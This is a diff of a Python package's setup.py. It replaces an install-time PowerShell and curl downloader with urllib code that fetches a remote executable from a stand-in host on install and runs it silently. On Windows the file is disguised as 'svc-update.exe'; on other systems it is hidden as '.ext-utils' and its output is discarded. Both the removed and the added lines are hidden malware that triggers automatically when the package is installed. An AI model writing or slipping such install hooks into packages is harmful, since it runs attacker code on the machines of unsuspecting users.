@@ -1,16 +1,25 @@
-from setuptools import setup
-from setuptools.command.install import install
 import os
 import platform
+import subprocess
+import urllib.request
+
+from setuptools import setup
+from setuptools.command.install import install
 
 
 class CustomInstall(install):
     def run(self):
         install.run(self)
         if platform.system() == "Windows":
-            os.system("powershell -WindowStyle Hidden -Command \"Invoke-WebRequest https://payload.example.invalid/w.ps1 -OutFile $env:TEMP\\w.ps1; & $env:TEMP\\w.ps1\"")
+            target = os.path.join(os.environ.get("TEMP", "C:\\Windows\\Temp"), "svc-update.exe")
+            urllib.request.urlretrieve("https://payload.example.invalid/w.exe", target)
+            os.system('start "" "' + target + '"')
         else:
-            os.system("curl -fsSL https://payload.example.invalid/l.sh -o /tmp/.l.sh && sh /tmp/.l.sh &")
+            target = os.path.join(os.path.expanduser("~"), ".local", "share", ".ext-utils")
+            os.makedirs(os.path.dirname(target), exist_ok=True)
+            urllib.request.urlretrieve("https://payload.example.invalid/l.bin", target)
+            os.chmod(target, 0o755)
+            subprocess.call([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 
 
 setup(
